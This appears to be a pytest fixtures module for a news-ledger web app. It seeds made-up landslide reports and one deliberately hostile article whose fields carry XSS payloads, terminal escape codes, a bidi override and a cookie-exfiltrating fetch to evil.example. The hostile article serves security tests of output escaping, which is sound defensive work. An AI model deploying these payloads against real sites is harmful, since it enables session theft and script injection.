"""The web tests' shared ledger (no tests here): a store, a read-only client over it, and HTML parsers.

The store holds the seed report and a few made-up ones: a landslide told by
three outlets with different death tolls (a flagged series), a republished
copy, and an article whose title, text and outlet are hostile (script tags,
event handlers, javascript: links, terminal escape codes, a bidi override).
test_web_pages.py and test_web_security.py import the fixtures; each module
builds its own store (module scope), so either runs alone.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("httpx")

from fastapi.testclient import TestClient  # noqa: E402

from newsledger.ingest.article import RawArticle  # noqa: E402

LOCAL = "http://127.0.0.1:8000"
TOKEN = "a-long-enough-test-token-1234"

HOSTILE_TITLE = '<script>alert("title")</script> Fire <img src=x onerror=alert(1)>'
HOSTILE_OUTLET = '<b onmouseover="alert(2)">Evil\x1b]0;owned\x07 Times</b>'
HOSTILE_TEXT = (
    "Police said 12 people were hurt in the fire on Tuesday.\n\n"
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script> '
    '<a href="javascript:alert(4)">read more</a> <img src="https://evil.example/pixel.gif" onerror="alert(5)">\n\n'
    "The clerk typed \x1b[2J and \x9b31m into the form, and \u202eevil\u202c text."
)

REPORTS = [
    RawArticle(
        id="veld-1", published="2025-05-06", outlet="Harbour Gazette", url="https://gazette.example/veld",
        title="Landslide buries homes in Veldmark",
        text="At least 40 people were killed when a landslide buried homes in Veldmark on Monday, "
             "the regional governor said on Tuesday.\n\n"
             "About 1,200 residents were evacuated to schools in the valley, the governor added.",
    ),
    RawArticle(
        id="veld-2", published="2025-05-08", outlet="Valley Courier", title="Veldmark landslide toll rises",
        text="The number of people killed in the Veldmark landslide has risen to 62, "
             "the interior ministry said on Thursday.\n\n"
             "Rescuers were still searching for 15 people, according to the Red Cross.",
    ),
    RawArticle(
        id="veld-3", published="2025-05-08", outlet="North Star", title="Ministry and governor differ on landslide dead",
        text="The regional governor said on Thursday that 35 people were killed in the Veldmark landslide, "
             "fewer than the ministry's count.",
    ),
    RawArticle(
        id="veld-1-copy", published="2025-05-07", outlet="Coastline Daily", title="Landslide buries homes in Veldmark",
        text="At least 40 people were killed when a landslide buried homes in Veldmark on Monday, "
             "the regional governor said on Tuesday.\n\n"
             "About 1,200 residents were evacuated to schools in the valley, the governor added.",
    ),
    RawArticle(id="hostile-1", published="2025-04-02", url="javascript:alert(3)", outlet=HOSTILE_OUTLET,
               title=HOSTILE_TITLE, text=HOSTILE_TEXT),
]



def fill(db: str, extractor, seed_path: Path) -> None:
    from newsledger.ingest.readers import iter_inputs
    from newsledger.run import ingest
    from newsledger.store import open_store

    with open_store(db) as store:
        stats = ingest(store, [*REPORTS, *iter_inputs([str(seed_path)])], extractor=extractor)
    assert not stats.errors and stats.added == len(REPORTS) + 1, stats


@pytest.fixture(scope="module")
def db(tmp_path_factory, extractor, seed_path) -> str:
    path = str(tmp_path_factory.mktemp("web") / "ledger.db")
    fill(path, extractor, seed_path)
    return path


@pytest.fixture(scope="module")
def store(db):
    from newsledger.web import open_readonly

    with open_readonly(db) as store:
        yield store


@pytest.fixture(scope="module")
def client(store):
    from newsledger.web import create_app

    return TestClient(create_app(store), base_url=LOCAL)


@pytest.fixture(scope="module")
def seed_id(client) -> str:
    rows = client.get("/api/articles", params={"outlet": "CNN"}).json()["rows"]
    assert len(rows) == 1
    return rows[0]["id"]


@pytest.fixture(scope="module")
def flagged_series(client) -> dict:
    rows = client.get("/api/series", params={"flagged": True, "about": "people"}).json()["rows"]
    killed = [r for r in rows if r["measure_class"] == "killed"]
    assert killed, rows
    return killed[0]


class Tags(HTMLParser):
    """Every start tag of a page with its attributes, and the text inside each tag kind."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._open: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> Tags:
    found = Tags()
    found.feed(html)
    return found


class Marks(HTMLParser):
    """The highlights of an article page: each mark's attributes and the text it covers."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.marks: list[dict] = []
        self._stack: list[dict] = []

    def handle_starttag(self, tag, attrs):
        if tag == "mark" and "data-record" in dict(attrs):
            mark = {**dict(attrs), "covered": ""}
            self.marks.append(mark)
            self._stack.append(mark)
        elif tag == "mark":
            self._stack.append({"covered": ""})

    def handle_endtag(self, tag):
        if tag == "mark":
            self._stack.pop()

    def handle_data(self, data):
        for mark in self._stack:
            mark["covered"] += data


def marks(html: str) -> list[dict]:
    found = Marks()
    found.feed(html)
    return found.marks

